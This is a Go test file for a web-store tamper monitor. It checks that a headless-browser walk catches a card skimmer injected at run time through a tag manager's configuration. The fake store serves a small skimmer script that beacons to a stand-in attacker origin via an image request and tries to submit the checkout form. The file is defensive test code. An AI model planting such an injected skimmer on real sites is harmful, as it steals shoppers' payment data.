package monitor_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"kaede/internal/db"
	"kaede/internal/db/dbtest"
	"kaede/internal/monitor"
	"kaede/internal/secevent"
	"kaede/internal/testenv"
)

// tagStore is a store whose payment pages load one script of their own, a
// tag manager: it asks the store which other scripts to insert and inserts
// them with document.createElement. Change the tag manager's answer and
// the pages run other code while neither their HTML nor any script they
// name changes: only a browser sees it.
type tagStore struct {
	mu     sync.Mutex
	config string   // the tag manager's answer
	posts  []string // the paths posted to
	evil   string   // the origin the inserted script sends to
}

func (s *tagStore) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if r.Method == http.MethodPost {
		s.posts = append(s.posts, r.URL.Path)
	}
	w.Header().Set("Content-Security-Policy", "default-src 'self'; script-src 'self'; connect-src 'self'; img-src 'self' "+s.evil+"; form-action 'self'")
	page := func(body string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><html><head><title>t</title></head><body>%s</body></html>`, body)
	}
	_, err := r.Cookie("sid")
	session := err == nil
	switch {
	case r.URL.Path == "/":
		page(`<a href="/products/a">a</a>`)
	case r.URL.Path == "/products/a":
		http.SetCookie(w, &http.Cookie{Name: "sid", Value: "s1", Path: "/", HttpOnly: true, SameSite: http.SameSiteLaxMode})
		page(`<form method="post" action="/cart/items"><input type="hidden" name="sku" value="A-1"><input name="quantity" value="1"></form>`)
	case r.URL.Path == "/cart/items" && r.Method == http.MethodPost, strings.HasPrefix(r.URL.Path, "/cart/items/") && r.Method == http.MethodPost:
		http.Redirect(w, r, "/cart", http.StatusSeeOther)
	case !session:
		// The pages after the cart are the session's: a browser without
		// the walk's session is sent away.
		http.Error(w, "no session", http.StatusForbidden)
	case r.URL.Path == "/cart":
		page(`<form method="post" action="/cart/items/A-1"><input name="quantity" value="1"></form>`)
	case r.URL.Path == "/checkout":
		page(`<script src="/static/tags.js"></script><form method="post" action="/checkout/confirm">` +
			`<input name="email"><input type="radio" name="payment_method" value="card"></form>`)
	case r.URL.Path == "/checkout/confirm" && r.Method == http.MethodPost:
		if r.PostFormValue("payment_method") != "card" || r.PostFormValue("email") != "monitor@invalid" {
			http.Error(w, "bad form", http.StatusUnprocessableEntity)
			return
		}
		page(`<script src="/static/tags.js"></script><form method="post" action="/checkout/place"><button>place</button></form>`)
	case r.URL.Path == "/static/tags.js":
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, `fetch('/tags.json').then(function (r) { return r.json(); }).then(function (c) {
	(c.scripts || []).forEach(function (src) {
		var s = document.createElement('script');
		s.src = src;
		document.head.appendChild(s);
	});
});`)
	case r.URL.Path == "/tags.json":
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, s.config)
	case r.URL.Path == "/static/late.js":
		// The skimmer: sends what it finds elsewhere, and tries to press
		// the order button.
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, `new Image().src = %q + '/c?n=' + document.forms.length;
var f = document.querySelector('form[action="/checkout/place"]');
if (f) { f.submit(); }`, s.evil)
	default:
		http.NotFound(w, r)
	}
}

func (s *tagStore) set(config string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.config = config
}

func (s *tagStore) posted(path string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, p := range s.posts {
		if p == path {
			return true
		}
	}
	return false
}

// TestBrowserWalkSeesCodeInsertedAtRunTime: the tag manager's answer
// changes so that the checkout pages insert a skimmer. The HTTP walk sees
// nothing (the HTML and every script it names are unchanged); the browser
// walk sees the script that ran and the request to the skimmer's origin,
// both critical, and the skimmer's attempt to place the order is refused.
func TestBrowserWalkSeesCodeInsertedAtRunTime(t *testing.T) {
	chromium := testenv.Chromium(t)
	var evilHits sync.Map
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		evilHits.Store(r.URL.Path, true)
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(evil.Close)
	store := &tagStore{config: `{"scripts":[]}`, evil: evil.URL}
	ts := httptest.NewServer(store)
	t.Cleanup(ts.Close)
	ctx := context.Background()

	httpWalker, err := monitor.NewWalker(monitor.Config{BaseURL: ts.URL})
	if err != nil {
		t.Fatal(err)
	}
	browserWalker, err := monitor.NewWalker(monitor.Config{BaseURL: ts.URL, Browser: chromium})
	if err != nil {
		t.Fatal(err)
	}
	if got := browserWalker.Mode(); got != monitor.ModeBrowser {
		t.Fatalf("mode %q, want %q", got, monitor.ModeBrowser)
	}
	httpBase, err := httpWalker.Walk(ctx)
	if err != nil {
		t.Fatalf("HTTP baseline: %v", err)
	}
	base, err := browserWalker.Walk(ctx)
	if err != nil {
		t.Fatalf("browser baseline: %v", err)
	}
	if base.Mode != monitor.ModeBrowser {
		t.Fatalf("snapshot mode %q, want browser", base.Mode)
	}
	// What ran on the checkout page: the tag manager, and nothing else.
	var checkout monitor.Page
	for _, p := range base.Pages {
		if p.Name == "/checkout" {
			checkout = p
		}
	}
	if len(checkout.Executed) != 1 || checkout.Executed[0].Source != ts.URL+"/static/tags.js" || !strings.HasPrefix(checkout.Executed[0].SHA384, "sha384-") {
		t.Errorf("scripts run on /checkout: %+v, want the tag manager with its hash", checkout.Executed)
	}
	var asked []string
	for _, r := range checkout.Requests {
		asked = append(asked, r.URL)
	}
	if want := []string{ts.URL + "/checkout", ts.URL + "/static/tags.js", ts.URL + "/tags.json"}; strings.Join(asked, " ") != strings.Join(want, " ") {
		t.Errorf("requests of /checkout: %q, want %q", asked, want)
	}
	// An unchanged store walks the same.
	if _, diffs, err := browserWalker.Check(ctx, base); err != nil || len(diffs) != 0 {
		t.Fatalf("unchanged store in the browser: %v, %v", diffs, err)
	}

	store.set(`{"scripts":["/static/late.js"]}`)
	if _, diffs, err := httpWalker.Check(ctx, httpBase); err != nil || len(diffs) != 0 {
		t.Fatalf("HTTP walk of the changed store: %v, %v; want nothing seen (the change is only at run time)", diffs, err)
	}
	_, diffs, err := browserWalker.Check(ctx, base)
	if err != nil {
		t.Fatalf("browser walk of the changed store: %v", err)
	}
	var ran, origin bool
	for _, d := range diffs {
		switch {
		case d.Kind == monitor.ScriptRan && d.Severity == monitor.Critical && strings.Contains(d.After, ts.URL+"/static/late.js"):
			ran = true
		case d.Kind == monitor.RequestOrigin && d.Severity == monitor.Critical && strings.Contains(d.Subject, evil.URL):
			origin = true
		}
	}
	if !ran || !origin {
		t.Errorf("differences %v, want the inserted script (critical) and the request to %s (critical)", diffs, evil.URL)
	}
	if _, ok := evilHits.Load("/c"); !ok {
		t.Error("the skimmer's request never reached its origin: did it run?")
	}
	if store.posted("/checkout/place") {
		t.Error("the skimmer placed an order through the monitor's browser")
	}
}

// TestBrowserWalkBlind: a Chromium that cannot start makes the walk blind,
// which the service reports as the monitor blind.
func TestBrowserWalkBlind(t *testing.T) {
	store := &tagStore{config: `{}`, evil: "http://127.0.0.1:9"}
	ts := httptest.NewServer(store)
	t.Cleanup(ts.Close)
	notChromium := filepath.Join(t.TempDir(), "chromium")
	if err := os.WriteFile(notChromium, []byte("#!/bin/sh\nexit 3\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	w, err := monitor.NewWalker(monitor.Config{BaseURL: ts.URL, Browser: notChromium})
	if err != nil {
		t.Fatal(err)
	}
	_, err = w.Walk(context.Background())
	var blind *monitor.BlindError
	if !errors.As(err, &blind) || !strings.Contains(err.Error(), "browser") {
		t.Fatalf("walk with a browser that does not start: %v, want blind", err)
	}
}

func TestFindChromium(t *testing.T) {
	if _, err := monitor.FindChromium(filepath.Join(t.TempDir(), "none")); err == nil {
		t.Error("a named browser that does not exist: no error")
	}
	if _, err := monitor.FindChromium(t.TempDir()); err == nil {
		t.Error("a directory named as the browser: no error")
	}
	want := testenv.Chromium(t)
	if got, err := monitor.FindChromium(want); err != nil || got != want {
		t.Errorf("FindChromium(%q) = %q, %v", want, got, err)
	}
}

// TestServiceBrowserMode runs the service in browser mode on both
// databases: its runs say so, its baseline is its own (the HTTP mode's
// first run later takes another, with a warning), a change only a browser
// sees is a critical event, and a browser that cannot start makes the
// monitor blind, with its critical event.
func TestServiceBrowserMode(t *testing.T) {
	chromium := testenv.Chromium(t)
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) }))
		t.Cleanup(evil.Close)
		store := &tagStore{config: `{"scripts":[]}`, evil: evil.URL}
		ts := httptest.NewServer(store)
		t.Cleanup(ts.Close)
		ev := secevent.NewStore(d, nil)
		release := &manifest{digest: "sha256:release-1"}
		service := func(browser string) *monitor.Service {
			w, err := monitor.NewWalker(monitor.Config{BaseURL: ts.URL, Browser: browser})
			if err != nil {
				t.Fatal(err)
			}
			svc, err := monitor.NewService(d, nil, monitor.ServiceConfig{Walker: w, Events: ev, Manifest: release.get})
			if err != nil {
				t.Fatal(err)
			}
			return svc
		}
		browser, plain := service(chromium), service("")

		first := check(t, browser, monitor.OK)
		if first.Mode != monitor.ModeBrowser || browser.Mode() != monitor.ModeBrowser {
			t.Fatalf("run mode %q, service mode %q; want browser", first.Mode, browser.Mode())
		}
		base, err := browser.Baseline(context.Background())
		if err != nil || base.Mode != monitor.ModeBrowser || base.ID != first.BaselineID {
			t.Fatalf("browser baseline %+v, %v; want the first run's, in browser mode", base, err)
		}
		if n := len(events(t, ev, secevent.KindTamper)); n != 0 {
			t.Fatalf("%d tamper events after the store's first run, want none", n)
		}
		// The HTTP mode compares with a baseline of its own, taken with a
		// warning: the mode changed.
		h := check(t, plain, monitor.OK)
		if h.Mode != monitor.ModeHTTP || h.BaselineID == first.BaselineID {
			t.Fatalf("HTTP run %+v compared with the browser's baseline", h)
		}
		if warned := events(t, ev, secevent.KindTamper); len(warned) != 1 || warned[0].Severity != secevent.Warning || !strings.Contains(warned[0].Summary, "http mode") {
			t.Fatalf("events after the first HTTP run %+v, want one warning about the mode", warned)
		}

		store.set(`{"scripts":["/static/late.js"]}`)
		check(t, plain, monitor.OK)
		run := check(t, browser, monitor.Different)
		var critical []secevent.Event
		for _, e := range events(t, ev, secevent.KindTamper) {
			if e.Severity == secevent.Critical {
				critical = append(critical, e)
			}
		}
		if len(critical) != 1 || !strings.Contains(critical[0].Detail, "script-executed") {
			t.Fatalf("critical events %+v after run %d, want one naming the script that ran", critical, run.ID)
		}

		notChromium := filepath.Join(t.TempDir(), "chromium")
		if err := os.WriteFile(notChromium, []byte("#!/bin/sh\nexit 3\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		if r := check(t, service(notChromium), monitor.Blind); !strings.Contains(r.Blind, "browser") {
			t.Errorf("blind run says %q, want the browser named", r.Blind)
		}
		if blind := events(t, ev, secevent.KindMonitorBlind); len(blind) != 1 || blind[0].Severity != secevent.Critical {
			t.Errorf("monitor-blind events %+v, want one critical", blind)
		}
	})
}
